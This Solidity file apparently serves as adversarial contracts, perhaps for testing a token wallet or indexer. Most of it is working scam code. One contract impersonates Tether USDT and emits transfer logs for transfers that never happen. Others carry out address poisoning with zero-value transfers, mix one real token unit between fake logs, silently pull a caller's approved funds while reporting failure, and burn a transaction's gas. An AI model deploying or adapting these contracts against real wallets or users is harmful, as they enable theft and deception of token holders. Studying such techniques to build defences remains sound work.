// SPDX-License-Identifier: MIT
pragma solidity ^0.8.30;

interface Coin {
    function transfer(address to, uint256 amount) external returns (bool);
    function transferFrom(address from, address to, uint256 amount) external returns (bool);
}

/// A look-alike: it moves nothing and logs whatever it is told to.
contract Fake {
    event Transfer(address indexed from, address indexed to, uint256 value);

    function pretend(address from, address to, uint256 amount) external {
        emit Transfer(from, to, amount);
    }

    function name() external pure returns (string memory) {
        return "Tether USD";
    }

    function symbol() external pure returns (string memory) {
        return "USDT";
    }

    function decimals() external view returns (uint8) {
        return uint256(uint160(address(this))) % 2 == 0 ? 6 : 18;
    }
}

/// What members and attackers call.
contract Caller {
    /// Passes on what it was sent, then runs out of gas.
    function payAndBurn(address payable to) external payable {
        (bool ok,) = to.call{value: msg.value}("");
        require(ok);
        while (true) {}
    }

    /// A token wrapper that says no by its answer and not by failing.
    function transfer(address to, uint256 amount) external returns (bool) {
        (bool ok,) = 0x55d398326f99059fF775485246999027B3197955.call(abi.encodeCall(Coin.transferFrom, (msg.sender, to, amount)));
        ok;
        return false;
    }

    /// One unit of the real token between the logs of two look-alikes.
    function crumb(Coin usdt, Fake one, Fake two, address from, address to) external {
        one.pretend(from, to, 1000e18);
        require(usdt.transferFrom(from, to, 1));
        two.pretend(from, to, 1000e18);
    }

    /// Moves what its owner has allowed, in somebody else's transaction.
    function relay(Coin usdt, address from, address to, uint256 amount) external {
        require(usdt.transferFrom(from, to, amount));
    }

    /// Logs of nothing out of a wallet, each to another attacker.
    function poison(Coin usdt, address from, address[] calldata to) external {
        for (uint256 i = 0; i < to.length; i++) {
            require(usdt.transferFrom(from, to[i], 0));
        }
    }

    /// Crumbs, each from another look-alike of a wallet.
    function crumbs(Coin usdt, address[] calldata from, address to) external {
        for (uint256 i = 0; i < from.length; i++) {
            require(usdt.transferFrom(from[i], to, 1));
        }
    }
}
